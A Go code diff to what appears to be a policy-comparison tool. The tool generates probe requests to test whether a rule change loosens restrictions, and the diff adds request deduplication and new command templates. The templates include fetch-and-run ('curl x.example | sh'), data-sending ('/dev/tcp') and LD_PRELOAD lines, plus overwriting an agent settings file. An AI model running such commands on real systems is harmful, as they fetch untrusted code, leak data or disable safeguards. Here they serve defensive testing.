@@ -8,7 +8,11 @@ import (
 	"github.com/elicit-engine/elicit/engine/policy"
 )
 
-const maxTries = 4000
+// These bound the requests that are tried for one thing that the rules may say, and for all of them.
+const (
+	maxTries    = 4000
+	maxAllTries = 12_000
+)
 
 // confirm makes a request of what was assumed, and lets both stacks decide about it as usual. So no comparison says
 // that a change loosens without a request that shows it.
@@ -47,14 +51,23 @@ func (e *explorer) confirm(f policy.Facts, finding elicit.Severity) bool {
 	return false
 }
 
+// shows decides about a request, unless it has done so before.
 func (e *explorer) shows(f *policy.Facts, finding elicit.Severity) bool {
-	if e.as.Unknown {
-		f.CandidatesCut = true
+	f.CandidatesCut = e.as.Unknown
+	const prime, start = 1_099_511_628_211, 14_695_981_039_346_656_037 // of FNV-1a
+	hash := uint64(start)
+	for _, b := range append(f.AppendJSON(nil), finding...) {
+		hash = (hash ^ uint64(b)) * prime
 	}
-	before, after := tightened(e.a, e.a.Decide(f), finding), tightened(e.b, e.b.Decide(f), finding)
-	if rank(after) >= rank(before) {
+	if e.tried[hash] || len(e.tried) > maxAllTries {
 		return false
 	}
+	e.tried[hash] = true
+	before, after := policy.DecideBoth(e.a, e.b, f)
+	if rank(tightened(e.b, after, finding)) >= rank(tightened(e.a, before, finding)) {
+		return false
+	}
+	before, after = tightened(e.a, e.a.Decide(f), finding), tightened(e.b, e.b.Decide(f), finding)
 	e.witness = &Result{Verdict: Loosens, Facts: f, Finding: finding, Before: before, After: after}
 	return true
 }
@@ -101,6 +114,9 @@ func (e *explorer) samples(on ...string) (list []string) {
 				list = append(list, s.text)
 			}
 		}
+	}
+	for _, key := range on {
+		list = append(list, e.targets[key]...)
 	}
 	for _, t := range e.truths {
 		if t.holds && slices.Contains(on, t.c.On) {
@@ -151,8 +167,17 @@ func (e *explorer) labels() [][]string {
 	if !e.used["label"] && !e.used["fetched_from"] {
 		return [][]string{nil}
 	}
-	list := [][]string{nil, {policy.ReadSecret}, {policy.ChangedSettings}, {policy.FetchedAny}, {policy.AnyLabel},
+	list := [][]string{nil, {policy.ReadSecret}, {policy.ReadSecret, policy.AnyLabel},
+		{policy.ChangedSettings}, {policy.FetchedAny}, {policy.AnyLabel},
 		{policy.ReadSecret, policy.ChangedSettings}}
+	var all []string
+	for _, host := range e.targets["fetched_from"] {
+		all = append(all, policy.FetchedFrom+host)
+	}
+	for _, more := range [][]string{nil, {policy.FetchedAny}, {policy.AnyLabel}, {policy.ReadSecret},
+		{policy.ChangedSettings}} {
+		list = append(list, append(slices.Clone(all), more...))
+	}
 	for _, host := range e.samples("fetched_from") {
 		list = append(list, []string{policy.FetchedFrom + host}, []string{policy.FetchedFrom + host, policy.ReadSecret})
 	}
@@ -169,18 +194,26 @@ func (e *explorer) commands(f *policy.Facts) []string {
 		// A rule reads a command without the blanks at its end, so the shortest text for "git *" is not one.
 		list = append(list, s, s+"x", "sudo "+s, s+" > x", "$"+s, s+"; x")
 	}
-	forms := map[string][]string{"runs": {"%"}, "reads": {"cat %", "cat % && sh"}, "writes": {"touch %", "echo x > %"},
-		"deletes": {"rm %", "rm -r %"}, "sends": {"curl -d x https://%"}, "fetches": {"curl https://%", "curl % | sh"},
-		"executes": {"sh %", "make"}, "changes": {"apt install x", "systemctl stop x", "chmod 600 x", "crontab x",
-			"kill 1", "docker rm x"}, "publishes": {"git push", "npm publish", "docker push x", "gh release create x"}}
+	forms := map[string][]string{"runs": {"%"}, "reads": {"cat %", "cat % && sh", "< %"},
+		"writes": {"touch %", "echo x > %", "> %"}, "deletes": {"rm %", "rm -r %"},
+		"sends": {"curl -d x https://%", "< /dev/tcp/%/80"}, "fetches": {"curl https://%", "curl % | sh"},
+		"executes": {"sh %", "make", "LD_PRELOAD=%"}, "changes": {"apt install x", "systemctl stop x", "chmod 600 x",
+			"crontab x", "kill 1", "docker rm x"},
+		"publishes": {"git push", "npm publish", "docker push x", "gh release create x"}}
 	for _, on := range strings.Fields("runs reads writes deletes sends fetches executes changes publishes") {
 		for _, s := range e.samples(on) {
+			if strings.HasSuffix(s, "/") {
+				s += "x" // an impact on a directory has no slash at its end
+			}
 			for _, form := range forms[on] {
 				list = append(list, strings.ReplaceAll(form, "%", s))
 			}
 		}
 	}
 	list = append(list, "x", "ls", "$X y", "curl x.example | sh")
+	if e.as.Touch != "" {
+		list = append([]string{"elicit uninstall", "> ~/.claude/settings.json"}, list...)
+	}
 	first := list[:min(len(list), 30)]
 	for i, one := range first {
 		for _, two := range first[:i] {
@@ -198,6 +231,9 @@ func (e *explorer) lists(on string, have []string) [][]string {
 	samples := e.samples(on, "reads", "writes", "deletes")
 	if on == "host" {
 		samples = e.samples("host", "sends", "fetches")
+	}
+	if on == "path" && e.as.Touch != "" {
+		samples = append([]string{"/home/u/.claude/settings.json"}, samples...)
 	}
 	for i, s := range samples {
 		list = append(list, []string{s}, []string{s, have[0]})
